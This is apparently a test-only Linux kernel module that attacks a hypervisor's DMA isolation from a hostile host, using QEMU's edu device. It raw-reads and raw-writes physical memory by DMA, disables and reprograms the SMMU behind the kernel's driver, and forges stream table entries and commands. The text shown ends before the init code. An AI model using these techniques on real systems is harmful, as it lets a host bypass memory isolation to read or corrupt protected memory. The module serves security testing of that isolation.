// SPDX-License-Identifier: GPL-2.0
/*
 * edu_attack: the project's DMA attack module, for tests only. A compromised host kernel
 * does not need the CPU to reach memory it may not touch: any bus-master device will copy
 * bytes to and from the physical addresses it is told. This module uses QEMU's "edu" PCI
 * device (1234:11e8, -device edu,dma_mask=0xffffffffffffffff) as that device and reports
 * what its DMA reached. Whatever the SMMU between the device and RAM lets through is what
 * a malicious host gets.
 *
 * edu: BAR0 registers 0x80 source, 0x88 destination, 0x90 count, 0x98 command (bit 0 run,
 * bit 1 direction: 0 copies RAM into the device's 4 KiB buffer, 1 copies the buffer out to
 * RAM). The buffer sits at device address 0x40000 and is not visible in the BAR, so the
 * module only ever sees it by DMA-ing it out into a page of its own. The copy happens
 * 100 ms (virtual time) after the command; the run bit clears when it is done.
 *
 * Parameters (insmod edu_attack.ko NAME=VALUE ...):
 *   legit=1       (default) a round trip through the DMA API: a dma_alloc_coherent buffer
 *                 into the device, the device out into a dma_map_page'd page; compared
 *   target_pa=PA  a raw read: the device buffer is first filled with a known pattern, then
 *                 the device is told to copy LEN bytes from PA (a physical address, not a
 *                 DMA address the kernel handed out), then the buffer is read back; the
 *                 pattern still there means nothing arrived
 *   do_write=1    with target_pa: after the raw read, a raw write of a known payload from
 *                 the buffer to PA, then a raw read of PA to see whether it landed
 *   len=N         bytes per raw transfer (default 64, at most 4096)
 *   nobind=1      use the device through pci_get_device without binding a driver to it
 *                 (no driver probe: the kernel gives it no IOMMU domain)
 *   mmio=1        go for the SMMU itself: map its registers (smmu_base, default
 *                 0x09050000, QEMU virt) and turn it off behind the kernel's back (GBPA
 *                 bypass, CR0 = 0), point its stream table and command queue at pages of
 *                 its own, printing what reads back; with target_pa, raw-read PA in that
 *                 state; then put the registers back as they were
 *   forge=1       (bound only) program the SMMU behind the kernel's driver while it runs:
 *                 rewrite the device's own stream table entry (bypass, then stage 2 with a
 *                 table of the module's) and invalidate it through a command queue of the
 *                 module's, raw-reading target_pa (default KCore's 0x40200000), a page of its
 *                 own and vm_pa (also raw-written) in each state; send the commands the
 *                 host may not (EL2 and stage-2 invalidations, ATS, PRI, stalls, an undefined
 *                 opcode, CMD_SYNC with an MSI), a queue in KCore's memory; point the event
 *                 queue and the MSI addresses at KCore's memory; put everything back (see
 *                 step_forge)
 *   vm_pa=PA      with forge: a protected VM's page
 *   donate=1      donate a page to KCore while the device writes into it (see step_donate)
 *   donate_vmid=N with donate: the pool it goes to (default 0, the host's own)
 *
 * Every step prints one line "EDU: STEP VERDICT ..." for the tests to grep; the last is
 * "EDU: done". A raw read's verdicts: "unchanged" (the buffer kept its pattern: no copy
 * happened), "got-zeros" (all zero: what QEMU's DMA hands the device when the SMMU refuses
 * the read, and also what zeroed memory holds, so aim at bytes known not to be zero),
 * "got-data" (with the first bytes), "readback-failed" (the module cannot see the buffer
 * at all, so nothing can be said), "timeout". It never touches target_pa with the CPU.
 *
 * All the work happens in init, which then succeeds with nothing left behind (the PCI
 * driver unregistered, the device released): rmmod edu_attack unloads it. (Init does not
 * fail on purpose: busybox's insmod retries a failed finit_module with init_module, which
 * would run every step twice.)
 */
#include <linux/arm-smccc.h>
#include <linux/delay.h>
#include <linux/dma-mapping.h>
#include <linux/io.h>
#include <linux/iommu.h>
#include <linux/jiffies.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/stop_machine.h>
#include <linux/string.h>

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8
#define EDU_REG_SRC 0x80
#define EDU_REG_DST 0x88
#define EDU_REG_CNT 0x90
#define EDU_REG_CMD 0x98
#define EDU_CMD_RUN 0x1
#define EDU_CMD_TO_RAM 0x2
#define EDU_BUF 0x40000
#define EDU_BUF_SIZE 4096
/* edu starts the copy 100 ms of virtual time after the command; under TCG on a loaded
 * machine give it much longer, but never wait forever. */
#define EDU_WAIT_MS 3000

/* SMMUv3 registers (page 0), and the bits used. */
#define SMMU_MAP_SIZE 0x20000
#define SMMU_IDR0 0x00
#define SMMU_CR0 0x20
#define SMMU_CR0ACK 0x24
#define SMMU_GBPA 0x44
#define SMMU_GERROR 0x60
#define SMMU_STRTAB_BASE 0x80
#define SMMU_STRTAB_BASE_CFG 0x88
#define SMMU_CMDQ_BASE 0x90
#define SMMU_CMDQ_PROD 0x98
#define SMMU_CMDQ_CONS 0x9c
#define SMMU_IRQ_CTRL 0x50
#define SMMU_GERRORN 0x64
#define SMMU_GERROR_IRQ_CFG0 0x68
#define SMMU_EVTQ_BASE 0xa0
#define SMMU_EVTQ_IRQ_CFG0 0xb0
#define SMMU_EVTQ_PROD 0x100a8
#define SMMU_CR0_EVTQEN 0x4
#define SMMU_CR0_CMDQEN 0x8
#define SMMU_GERROR_CMDQ_ERR 0x1
#define SMMU_IRQ_CTRL_GERROR 0x1
#define SMMU_CR0_SMMUEN 0x1
#define SMMU_GBPA_UPDATE (1u << 31)
#define SMMU_GBPA_ABORT (1u << 20)

static bool legit = true;
module_param(legit, bool, 0);
MODULE_PARM_DESC(legit, "round trip through the DMA API (default 1)");
static unsigned long target_pa;
module_param(target_pa, ulong, 0);
MODULE_PARM_DESC(target_pa, "physical address for the raw read (and write)");
static bool do_write;
module_param(do_write, bool, 0);
MODULE_PARM_DESC(do_write, "also write a payload to target_pa");
static unsigned int len = 64;
module_param(len, uint, 0);
MODULE_PARM_DESC(len, "bytes per raw transfer (at most 4096)");
static bool nobind;
module_param(nobind, bool, 0);
MODULE_PARM_DESC(nobind, "use the device without binding a driver");
static bool mmio;
module_param(mmio, bool, 0);
MODULE_PARM_DESC(mmio, "attack the SMMU's registers directly");
static bool forge;
module_param(forge, bool, 0);
MODULE_PARM_DESC(forge, "forge SMMU programming behind the kernel's driver (needs the bound device)");
static unsigned long vm_pa;
module_param(vm_pa, ulong, 0);
MODULE_PARM_DESC(vm_pa, "with forge: a protected VM's page, read and written through forged STEs");
static bool donate;
module_param(donate, bool, 0);
MODULE_PARM_DESC(donate, "donate a page to KCore while the device DMAs into it");
static unsigned long donate_vmid;
module_param(donate_vmid, ulong, 0);
MODULE_PARM_DESC(donate_vmid, "with donate: the pool the page goes to (0: the host's own)");
static unsigned long smmu_base = 0x09050000;
module_param(smmu_base, ulong, 0);
MODULE_PARM_DESC(smmu_base, "physical address of the SMMUv3's registers");

/* Eight-byte tags that fill pages, each unlike anything else in memory. */
static const char TAG_PREFILL[8] = "EDUprefl";	/* what the buffer holds before a raw read */
static const char TAG_MARK[8] = "EDUmark.";	/* a readback page before the buffer lands */
static const char TAG_WRITE[8] = "EDUwrote";	/* the raw write's payload */
static const char TAG_OWN[8] = "EDUown..";	/* a page of the module's, read by its PA */
static const char TAG_DONATE[8] = "EDUdona.";	/* what the device writes into the donated page */

/* The module's own three pages: [0] the source of what goes into the buffer, [1] and [2]
 * where the buffer comes back to (by DMA address, and by physical address when the
 * attacker believes translation is off). */
struct edu {
	struct pci_dev *pdev;
	struct device *dev;
	void __iomem *bar;
	struct page *page[3];
	dma_addr_t dma[3];
	bool mapped[3];
	bool via_pa;	/* also move the buffer by the pages' physical addresses */
	bool stuck;	/* a copy never finished: edu ignores commands until it does */
};

static int steps_run;

static void fill(struct page *p, const char tag[8])
{
	u8 *v = page_address(p);
	size_t i;

	for (i = 0; i < PAGE_SIZE; i += 8)
		memcpy(v + i, tag, 8);
}

static bool holds(struct page *p, const char tag[8], unsigned int n)
{
	const u8 *v = page_address(p);
	unsigned int i;

	for (i = 0; i < n; i++)
		if (v[i] != (u8)tag[i % 8])
			return false;
	return true;
}

/* One copy by the device; 0 when the run bit cleared, -ETIMEDOUT if it never did. */
static int edu_copy(struct edu *e, u64 src, u64 dst, u32 count, bool to_ram)
{
	unsigned long deadline;

	if (e->stuck)
		return -ETIMEDOUT;
	writeq(src, e->bar + EDU_REG_SRC);
	writeq(dst, e->bar + EDU_REG_DST);
	writeq(count, e->bar + EDU_REG_CNT);
	writeq(EDU_CMD_RUN | (to_ram ? EDU_CMD_TO_RAM : 0), e->bar + EDU_REG_CMD);
	deadline = jiffies + msecs_to_jiffies(EDU_WAIT_MS);
	while (readq(e->bar + EDU_REG_CMD) & EDU_CMD_RUN) {
		if (time_after(jiffies, deadline)) {
			e->stuck = true;
			return -ETIMEDOUT;
		}
		msleep(10);
	}
	return 0;
}

/* The module's page i into the device buffer (by DMA address; and by PA when via_pa). */
static int page_to_buf(struct edu *e, int i)
{
	int ret;

	dma_sync_single_for_device(e->dev, e->dma[i], PAGE_SIZE, DMA_BIDIRECTIONAL);
	ret = edu_copy(e, e->dma[i], EDU_BUF, len, false);
	if (!ret && e->via_pa && page_to_phys(e->page[i]) != e->dma[i])
		ret = edu_copy(e, page_to_phys(e->page[i]), EDU_BUF, len, false);
	return ret;
}

/*
 * The device buffer back into the module's pages 1 and 2 (both first filled with the mark):
 * returns the page the buffer landed in, or NULL if neither changed (the module cannot see
 * the buffer at all: nothing can be concluded). *err is set on a timeout.
 */
static struct page *buf_to_page(struct edu *e, int *err)
{
	int i;

	for (i = 1; i <= 2; i++) {
		fill(e->page[i], TAG_MARK);
		dma_sync_single_for_device(e->dev, e->dma[i], PAGE_SIZE, DMA_BIDIRECTIONAL);
	}
	*err = edu_copy(e, EDU_BUF, e->dma[1], len, true);
	if (!*err && e->via_pa && page_to_phys(e->page[2]) != e->dma[2])
		*err = edu_copy(e, EDU_BUF, page_to_phys(e->page[2]), len, true);
	for (i = 1; i <= 2; i++) {
		dma_sync_single_for_cpu(e->dev, e->dma[i], PAGE_SIZE, DMA_BIDIRECTIONAL);
		if (!holds(e->page[i], TAG_MARK, len))
			return e->page[i];
	}
	return NULL;
}

enum raw { RAW_TIMEOUT, RAW_NO_READBACK, RAW_UNCHANGED, RAW_ZEROS, RAW_DATA };

/*
 * A raw read of pa into the device buffer, pre-filled with TAG_PREFILL; *got is the page
 * the buffer came back to (its first bytes are what the device buffer held after).
 */
static enum raw raw_read(struct edu *e, u64 pa, struct page **got)
{
	int err;

	fill(e->page[0], TAG_PREFILL);
	if (page_to_buf(e, 0))
		return RAW_TIMEOUT;
	if (edu_copy(e, pa, EDU_BUF, len, false))
		return RAW_TIMEOUT;
	*got = buf_to_page(e, &err);
	if (err)
		return RAW_TIMEOUT;
	if (!*got)
		return RAW_NO_READBACK;
	if (holds(*got, TAG_PREFILL, len))
		return RAW_UNCHANGED;
	return memchr_inv(page_address(*got), 0, len) ? RAW_DATA : RAW_ZEROS;
}

/* One verdict line for a raw read's outcome r (got: the page the buffer came back to). */
static void report_raw(const char *step, u64 pa, enum raw r, struct page *got)
{
	unsigned int n = min(len, 16u);

	switch (r) {
	case RAW_TIMEOUT:
		pr_info("EDU: %s %#llx timeout\n", step, pa);
		break;
	case RAW_NO_READBACK:
		pr_info("EDU: %s %#llx readback-failed (the device buffer cannot be seen)\n", step, pa);
		break;
	case RAW_UNCHANGED:
		pr_info("EDU: %s %#llx unchanged (buffer kept its pattern %*phN)\n", step, pa, n,
			page_address(got));
		break;
	case RAW_ZEROS:
		pr_info("EDU: %s %#llx got-zeros (refused, or zero memory)\n", step, pa);
		break;
	case RAW_DATA:
		pr_info("EDU: %s %#llx got-data %*phN\n", step, pa, n, page_address(got));
		break;
	}
}

static void step_read(struct edu *e, const char *step, u64 pa)
{
	struct page *got = NULL;
	enum raw r = raw_read(e, pa, &got);

	report_raw(step, pa, r, got);
}

static void step_legit(struct edu *e)
{
	dma_addr_t src_dma, dst_dma;
	struct page *dst;
	u8 *src;
	unsigned int i, n = EDU_BUF_SIZE;
	int err;

	src = dma_alloc_coherent(e->dev, n, &src_dma, GFP_KERNEL);
	dst = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!src || !dst) {
		pr_info("EDU: legit failed (no memory)\n");
		goto out;
	}
	for (i = 0; i < n; i++)
		src[i] = (u8)(i * 7 + 0x3b);
	dst_dma = dma_map_page(e->dev, dst, 0, n, DMA_FROM_DEVICE);
	if (dma_mapping_error(e->dev, dst_dma)) {
		pr_info("EDU: legit failed (dma_map_page)\n");
		goto out;
	}
	err = edu_copy(e, src_dma, EDU_BUF, n, false);
	if (!err)
		err = edu_copy(e, EDU_BUF, dst_dma, n, true);
	if (err) {
		/* The copy may still be pending: the buffers stay allocated and mapped. */
		pr_info("EDU: legit timeout\n");
		return;
	}
	dma_unmap_page(e->dev, dst_dma, n, DMA_FROM_DEVICE);
	if (!memcmp(src, page_address(dst), n))
		pr_info("EDU: legit ok (%u bytes; dma addresses %#llx -> %#llx, page pa %#llx)\n", n,
			(u64)src_dma, (u64)dst_dma, (u64)page_to_phys(dst));
	else
		pr_info("EDU: legit failed (got %*phN, want %*phN)\n", 8, page_address(dst), 8, src);
out:
	if (dst)
		__free_page(dst);
	if (src)
		dma_free_coherent(e->dev, n, src, src_dma);
}

static void step_write(struct edu *e, u64 pa)
{
	struct page *got = NULL;
	unsigned int n = min(len, 16u);
	int err;

	/* The payload into the buffer, checked there first (else "not landed" means nothing). */
	fill(e->page[0], TAG_WRITE);
	if (page_to_buf(e, 0) || !(got = buf_to_page(e, &err)) || err || !holds(got, TAG_WRITE, len)) {
		pr_info("EDU: write %#llx no-payload (the device buffer could not be loaded)\n", pa);
		return;
	}
	if (edu_copy(e, EDU_BUF, pa, len, true)) {
		pr_info("EDU: write %#llx timeout\n", pa);
		return;
	}
	pr_info("EDU: write %#llx issued (%u bytes of %.8s)\n", pa, len, TAG_WRITE);
	/* Read it back by DMA only: the CPU must never touch pa. */
	switch (raw_read(e, pa, &got)) {
	case RAW_TIMEOUT:
		pr_info("EDU: write-check %#llx timeout\n", pa);
		break;
	case RAW_NO_READBACK:
		pr_info("EDU: write-check %#llx readback-failed\n", pa);
		break;
	case RAW_UNCHANGED:
		pr_info("EDU: write-check %#llx unchanged (no copy happened)\n", pa);
		break;
	case RAW_ZEROS:
		pr_info("EDU: write-check %#llx got-zeros (the read back refused, or the page zeroed since)\n", pa);
		break;
	case RAW_DATA:
		pr_info("EDU: write-check %#llx %s %*phN\n", pa,
			holds(got, TAG_WRITE, len) ? "landed" : "not-landed", n, page_address(got));
		break;
	}
}

static bool wait_reg(void __iomem *reg, u32 mask, u32 want)
{
	unsigned long deadline = jiffies + msecs_to_jiffies(100);

	while ((readl(reg) & mask) != want) {
		if (time_after(jiffies, deadline))
			return false;
		udelay(10);
	}
	return true;
}

/*
 * The SMMU's own registers, behind the kernel's driver: what a host that wants DMA
 * anywhere would do first. Each write is read back; with a device, a raw read of
 * target_pa in the state the attack left; then everything is put back.
 */
static void step_mmio(struct edu *e)
{
	void __iomem *r = ioremap(smmu_base, SMMU_MAP_SIZE);
	struct page *own = alloc_page(GFP_KERNEL | __GFP_ZERO);
	u32 cr0, gbpa, strtab_cfg, prod, cons;
	u64 strtab, cmdq, own_pa;

	if (!r || !own) {
		pr_info("EDU: mmio failed (no mapping or memory)\n");
		goto out;
	}
	own_pa = page_to_phys(own);
	cr0 = readl(r + SMMU_CR0);
	gbpa = readl(r + SMMU_GBPA);
	strtab = readq(r + SMMU_STRTAB_BASE);
	strtab_cfg = readl(r + SMMU_STRTAB_BASE_CFG);
	cmdq = readq(r + SMMU_CMDQ_BASE);
	prod = readl(r + SMMU_CMDQ_PROD);
	cons = readl(r + SMMU_CMDQ_CONS);
	pr_info("EDU: mmio before idr0 %#x cr0 %#x gbpa %#x strtab %#llx cfg %#x cmdq %#llx prod %#x cons %#x gerror %#x\n",
		readl(r + SMMU_IDR0), cr0, gbpa, strtab, strtab_cfg, cmdq, prod, cons,
		readl(r + SMMU_GERROR));

	/* Bypass for when the SMMU is off, then off. */
	writel(SMMU_GBPA_UPDATE | (gbpa & ~SMMU_GBPA_ABORT), r + SMMU_GBPA);
	wait_reg(r + SMMU_GBPA, SMMU_GBPA_UPDATE, 0);
	pr_info("EDU: mmio gbpa wrote bypass read %#x (%s)\n", readl(r + SMMU_GBPA),
		readl(r + SMMU_GBPA) & SMMU_GBPA_ABORT ? "abort" : "bypass");
	writel(0, r + SMMU_CR0);
	wait_reg(r + SMMU_CR0ACK, SMMU_CR0_SMMUEN, 0);
	pr_info("EDU: mmio cr0 wrote 0 read %#x ack %#x (%s)\n", readl(r + SMMU_CR0),
		readl(r + SMMU_CR0ACK),
		readl(r + SMMU_CR0ACK) & SMMU_CR0_SMMUEN ? "still-enabled" : "disabled");
	if (e && target_pa) {
		e->via_pa = true;
		step_read(e, "mmio-read", target_pa);
		e->via_pa = false;
	}
	/* Its stream table and command queue in the attacker's page (all zeros: invalid STEs). */
	writeq(own_pa, r + SMMU_STRTAB_BASE);
	pr_info("EDU: mmio strtab wrote %#llx read %#llx (%s)\n", own_pa, readq(r + SMMU_STRTAB_BASE),
		(readq(r + SMMU_STRTAB_BASE) & GENMASK_ULL(51, 6)) == own_pa ? "taken" : "kept");
	writeq(own_pa | 5, r + SMMU_CMDQ_BASE);	/* 2^5 entries */
	writel(1, r + SMMU_CMDQ_PROD);
	pr_info("EDU: mmio cmdq wrote %#llx prod 1 read %#llx prod %#x (%s)\n", own_pa | 5,
		readq(r + SMMU_CMDQ_BASE), readl(r + SMMU_CMDQ_PROD),
		(readq(r + SMMU_CMDQ_BASE) & GENMASK_ULL(51, 5)) == own_pa ? "taken" : "kept");

	/* Put it all back (the queues' indices as the kernel's driver last left them). */
	writeq(strtab, r + SMMU_STRTAB_BASE);
	writel(strtab_cfg, r + SMMU_STRTAB_BASE_CFG);
	writeq(cmdq, r + SMMU_CMDQ_BASE);
	writel(prod, r + SMMU_CMDQ_PROD);
	writel(cons, r + SMMU_CMDQ_CONS);
	writel(SMMU_GBPA_UPDATE | gbpa, r + SMMU_GBPA);
	wait_reg(r + SMMU_GBPA, SMMU_GBPA_UPDATE, 0);
	writel(cr0, r + SMMU_CR0);
	wait_reg(r + SMMU_CR0ACK, ~0u, cr0);
	pr_info("EDU: mmio restored cr0 %#x ack %#x gbpa %#x gerror %#x\n", readl(r + SMMU_CR0),
		readl(r + SMMU_CR0ACK), readl(r + SMMU_GBPA), readl(r + SMMU_GERROR));
out:
	if (own)
		__free_page(own);
	if (r)
		iounmap(r);
}

/*
 * forge=1: the SMMU programmed behind the kernel's driver while that driver owns it and runs
 * (the device bound, the driver's command queue in use). What a host that wants DMA anywhere
 * would do next after the registers alone (mmio=1): rewrite its device's stream table entry
 * and invalidate it, send the SMMU commands its driver never sends, and point the SMMU's
 * writes (event queue, MSIs) at memory it does not own.
 *
 * The module never writes into the driver's command queue: that queue is lock-free, its
 * indices live in the driver's memory, and an entry slipped in behind the driver would make
 * the driver's next PROD go backwards. Instead each forged session runs under stop_machine()
 * (every other CPU spins with interrupts off; the driver issues commands with interrupts off,
 * so none is half-way through one), turns CMDQEN off through CR0, points CMDQ_BASE at a queue
 * of its own (32 entries in a page of the module's), turns CMDQEN back on, issues its
 * commands, and puts the driver's CMDQ_BASE, CONS, PROD and CR0 back before any other CPU
 * runs again: the driver's queue and indices are as it left them. GERROR interrupts are
 * masked for the session: a command error the module raises, the module acknowledges, before
 * the driver's handler could go looking for it in the driver's queue.
 */
#define KCORE_PA 0x40200000ULL
#define FQ_LOG2 5
#define FQ_ENTRIES (1u << FQ_LOG2)
#define FQ_IDX(v) ((v) & (2 * FQ_ENTRIES - 1))	/* index and wrap bit of PROD/CONS */
#define CONS_ERR(v) (((v) >> 24) & 0x7f)
#define CMD_CFGI_STE 0x03
#define CMD_SYNC 0x46
#define STE_CFG_BYPASS 0x4
#define STE_CFG_S2 0x6

struct fq {
	void __iomem *r;
	u64 *q;		/* FQ_ENTRIES commands of two dwords */
	u64 q_pa;
	u32 next;	/* the next free entry: index and wrap */
	/* the driver's registers, put back by fq_end */
	u32 cr0, prod, cons, irq_ctrl;
	u64 base;
};

static bool cmdq_err_active(void __iomem *r)
{
	return (readl(r + SMMU_GERROR) ^ readl(r + SMMU_GERRORN)) & SMMU_GERROR_CMDQ_ERR;
}

/* Acknowledge a command error as the driver does: GERRORN.CMDQ_ERR := GERROR.CMDQ_ERR, the
 * other (real) error bits left as they were. */
static void cmdq_err_ack(void __iomem *r)
{
	u32 gn = readl(r + SMMU_GERRORN);

	writel((gn & ~SMMU_GERROR_CMDQ_ERR) | (readl(r + SMMU_GERROR) & SMMU_GERROR_CMDQ_ERR),
	       r + SMMU_GERRORN);
}

static void fq_begin(struct fq *f)
{
	void __iomem *r = f->r;

	f->cr0 = readl(r + SMMU_CR0);
	f->base = readq(r + SMMU_CMDQ_BASE);
	f->prod = readl(r + SMMU_CMDQ_PROD);
	f->cons = readl(r + SMMU_CMDQ_CONS);
	f->irq_ctrl = readl(r + SMMU_IRQ_CTRL);
	writel(f->irq_ctrl & ~SMMU_IRQ_CTRL_GERROR, r + SMMU_IRQ_CTRL);
	writel(f->cr0 & ~SMMU_CR0_CMDQEN, r + SMMU_CR0);
	memset(f->q, 0, FQ_ENTRIES * 16);
	f->next = 0;
	writeq(f->q_pa | FQ_LOG2, r + SMMU_CMDQ_BASE);
	writel(0, r + SMMU_CMDQ_CONS);
	writel(0, r + SMMU_CMDQ_PROD);
	writel(f->cr0 | SMMU_CR0_CMDQEN, r + SMMU_CR0);
}

static void fq_end(struct fq *f)
{
	void __iomem *r = f->r;

	writel(f->cr0 & ~SMMU_CR0_CMDQEN, r + SMMU_CR0);
	if (cmdq_err_active(r))
		cmdq_err_ack(r);
	writeq(f->base, r + SMMU_CMDQ_BASE);
	writel(f->cons & 0xfffff, r + SMMU_CMDQ_CONS);
	writel(f->prod, r + SMMU_CMDQ_PROD);
	writel(f->cr0, r + SMMU_CR0);
	writel(f->irq_ctrl, r + SMMU_IRQ_CTRL);
}

/* Put a command in the next entry; returns that entry's index (and wrap). */
static u32 fq_push(struct fq *f, u64 w0, u64 w1)
{
	u32 at = f->next, i = at & (FQ_ENTRIES - 1);

	WRITE_ONCE(f->q[2 * i], w0);
	WRITE_ONCE(f->q[2 * i + 1], w1);
	f->next = FQ_IDX(at + 1);
	return at;
}

/* PROD := next; KCore processes the queue in the trap: CONS is final when the write returns. */
static u32 fq_submit(struct fq *f)
{
	wmb();
	writel(f->next, f->r + SMMU_CMDQ_PROD);
	return readl(f->r + SMMU_CMDQ_CONS);
}

/* (a) One STE of the host's stream table rewritten and invalidated through the own queue. */
struct ste_job {
	struct fq *f;
	u64 *ste;		/* the STE in the host's table */
	const u64 *val;		/* its new 8 dwords */
	u32 sid;
	u32 cons;		/* CONS after CFGI_STE + CMD_SYNC */
	bool err;		/* a command error (acknowledged) */
};

static int ste_cb(void *d)
{
	struct ste_job *j = d;
	int k;

	fq_begin(j->f);
	for (k = 1; k < 8; k++)
		WRITE_ONCE(j->ste[k], j->val[k]);
	wmb();
	WRITE_ONCE(j->ste[0], j->val[0]);
	fq_push(j->f, CMD_CFGI_STE | (u64)j->sid << 32, 1);
	fq_push(j->f, CMD_SYNC, 0);
	j->cons = fq_submit(j->f);
	j->err = cmdq_err_active(j->f->r);
	fq_end(j->f);
	return 0;
}

struct forge_state {
	struct fq fq;
	u32 sid;
	u64 *ste;		/* edu's STE in the host's table (mapped) */
	void *ste_map;
	u64 saved[8];
	u64 bypass[8], s2[8];
	struct page *own;	/* a page of the module's, TAG_OWN, read by its PA */
	struct page *qpage, *s2page;
	bool broken;		/* an STE update failed: stop */
};

static bool forge_ste(struct forge_state *s, const u64 *val)
{
	struct ste_job j = { .f = &s->fq, .ste = s->ste, .val = val, .sid = s->sid };

	stop_machine(ste_cb, &j, NULL);
	if (j.err || FQ_IDX(j.cons) != 2) {
		pr_info("EDU: forge ste-update failed cons %#x%s\n", j.cons, j.err ? " (command error)" : "");
		s->broken = true;
		return false;
	}
	return true;
}

/*
 * A raw read of pa into the device buffer with edu's STE forged to val: the buffer is filled
 * with TAG_PREFILL and read back with the driver's STE in place (the device buffer keeps
 * what it holds across the STE changes), only the read of pa itself happens forged.
 */
static void forged_read(struct edu *e, struct forge_state *s, const char *step, const u64 *val, u64 pa)
{
	struct page *got = NULL;
	enum raw r = RAW_TIMEOUT;
	u32 ev = 0;
	int err;

	if (s->broken)
		return;
	fill(e->page[0], TAG_PREFILL);
	if (page_to_buf(e, 0))
		goto report;
	if (!forge_ste(s, val))
		return;
	ev = readl(s->fq.r + SMMU_EVTQ_PROD);
	err = edu_copy(e, pa, EDU_BUF, len, false);
	ev = (readl(s->fq.r + SMMU_EVTQ_PROD) - ev) & 0xfffff;
	if (!forge_ste(s, s->saved) || err)
		goto report;
	got = buf_to_page(e, &err);
	if (err)
		r = RAW_TIMEOUT;
	else if (!got)
		r = RAW_NO_READBACK;
	else if (holds(got, TAG_PREFILL, len))
		r = RAW_UNCHANGED;
	else
		r = memchr_inv(page_address(got), 0, len) ? RAW_DATA : RAW_ZEROS;
report:
	report_raw(step, pa, r, got);
	/* The SMMU's event records meanwhile (the driver's log of them is rate-limited). */
	pr_info("EDU: %s %#llx smmu-events %u\n", step, pa, ev);
}

/* A raw write of TAG_WRITE to pa with edu's STE forged to val. */
static void forged_write(struct edu *e, struct forge_state *s, const char *step, const u64 *val, u64 pa)
{
	struct page *got;
	int err;

	if (s->broken)
		return;
	fill(e->page[0], TAG_WRITE);
	if (page_to_buf(e, 0) || !(got = buf_to_page(e, &err)) || err || !holds(got, TAG_WRITE, len)) {
		pr_info("EDU: %s %#llx no-payload\n", step, pa);
		return;
	}
	if (!forge_ste(s, val))
		return;
	err = edu_copy(e, EDU_BUF, pa, len, true);
	if (forge_ste(s, s->saved))
		pr_info("EDU: %s %#llx %s (%u bytes of %.8s)\n", step, pa, err ? "timeout" : "issued", len,
			TAG_WRITE);
}

/* (b) Commands the host may not send, each followed by a CMD_SYNC. */
struct forged_cmd {
	const char *name;
	u64 w0, w1;
	bool refuse;		/* the expected outcome: refused with CERROR_ILL */
	/* what happened */
	u32 at, cons, after;
	bool toggled, active;
};

struct cmds_job {
	struct fq *f;
	struct forged_cmd *c;
	int n;
	/* a command queue in KCore's memory */
	u32 kq_cons, kq_after;
	bool kq_toggled, kq_active;
};

static int cmds_cb(void *d)
{
	struct cmds_job *j = d;
	struct fq *f = j->f;
	void __iomem *r = f->r;
	u32 g0;
	int i;

	fq_begin(f);
	for (i = 0; i < j->n; i++) {
		struct forged_cmd *c = &j->c[i];

		g0 = readl(r + SMMU_GERROR);
		c->at = fq_push(f, c->w0, c->w1);
		fq_push(f, CMD_SYNC, 0);
		c->cons = fq_submit(f);
		c->toggled = (readl(r + SMMU_GERROR) ^ g0) & SMMU_GERROR_CMDQ_ERR;
		c->active = cmdq_err_active(r);
		if (c->active) {
			/* What Linux does: the entry becomes a CMD_SYNC, then the acknowledgement. */
			u32 k = c->at & (FQ_ENTRIES - 1);

			WRITE_ONCE(f->q[2 * k], CMD_SYNC);
			WRITE_ONCE(f->q[2 * k + 1], 0);
			wmb();
			cmdq_err_ack(r);
		}
		c->after = readl(r + SMMU_CMDQ_CONS);
		c->active = cmdq_err_active(r);
	}
	/* A queue in KCore's memory: the SMMU could not read it (CERROR_ABT). */
	writel(f->cr0 & ~SMMU_CR0_CMDQEN, r + SMMU_CR0);
	writeq(KCORE_PA | FQ_LOG2, r + SMMU_CMDQ_BASE);
	writel(0, r + SMMU_CMDQ_CONS);
	writel(0, r + SMMU_CMDQ_PROD);
	writel(f->cr0 | SMMU_CR0_CMDQEN, r + SMMU_CR0);
	g0 = readl(r + SMMU_GERROR);
	writel(1, r + SMMU_CMDQ_PROD);
	j->kq_cons = readl(r + SMMU_CMDQ_CONS);
	j->kq_toggled = (readl(r + SMMU_GERROR) ^ g0) & SMMU_GERROR_CMDQ_ERR;
	/* Nothing can replace that entry: off, then acknowledged, then the driver's queue back. */
	writel(f->cr0 & ~SMMU_CR0_CMDQEN, r + SMMU_CR0);
	cmdq_err_ack(r);
	j->kq_active = cmdq_err_active(r);
	j->kq_after = readl(r + SMMU_CMDQ_CONS);
	fq_end(f);
	return 0;
}

/* (c) The event queue and the MSI addresses pointed at KCore. */
struct evtq_job {
	void __iomem *r;
	u64 gcfg, ecfg, base_on, base_off, base_back;
	u32 ack_off, cr0_on, ack_on, cr0_back, ack_back;
};

static int evtq_cb(void *d)
{
	struct evtq_job *j = d;
	void __iomem *r = j->r;
	u32 cr0 = readl(r + SMMU_CR0);
	u64 base = readq(r + SMMU_EVTQ_BASE), g = readq(r + SMMU_GERROR_IRQ_CFG0),
	    ev = readq(r + SMMU_EVTQ_IRQ_CFG0);

	writeq(KCORE_PA, r + SMMU_GERROR_IRQ_CFG0);
	j->gcfg = readq(r + SMMU_GERROR_IRQ_CFG0);
	writeq(g, r + SMMU_GERROR_IRQ_CFG0);
	writeq(KCORE_PA, r + SMMU_EVTQ_IRQ_CFG0);
	j->ecfg = readq(r + SMMU_EVTQ_IRQ_CFG0);
	writeq(ev, r + SMMU_EVTQ_IRQ_CFG0);
	/* While the queue is on, then off and on again. */
	writeq(KCORE_PA | (base & 0x1f), r + SMMU_EVTQ_BASE);
	j->base_on = readq(r + SMMU_EVTQ_BASE);
	writel(cr0 & ~SMMU_CR0_EVTQEN, r + SMMU_CR0);
	j->ack_off = readl(r + SMMU_CR0ACK);
	writeq(KCORE_PA | (base & 0x1f), r + SMMU_EVTQ_BASE);
	j->base_off = readq(r + SMMU_EVTQ_BASE);
	writel(cr0 | SMMU_CR0_EVTQEN, r + SMMU_CR0);
	j->cr0_on = readl(r + SMMU_CR0);
	j->ack_on = readl(r + SMMU_CR0ACK);
	/* Back as the driver had it. */
	writel(cr0 & ~SMMU_CR0_EVTQEN, r + SMMU_CR0);
	writeq(base, r + SMMU_EVTQ_BASE);
	writel(cr0, r + SMMU_CR0);
	j->base_back = readq(r + SMMU_EVTQ_BASE);
	j->cr0_back = readl(r + SMMU_CR0);
	j->ack_back = readl(r + SMMU_CR0ACK);
	return 0;
}

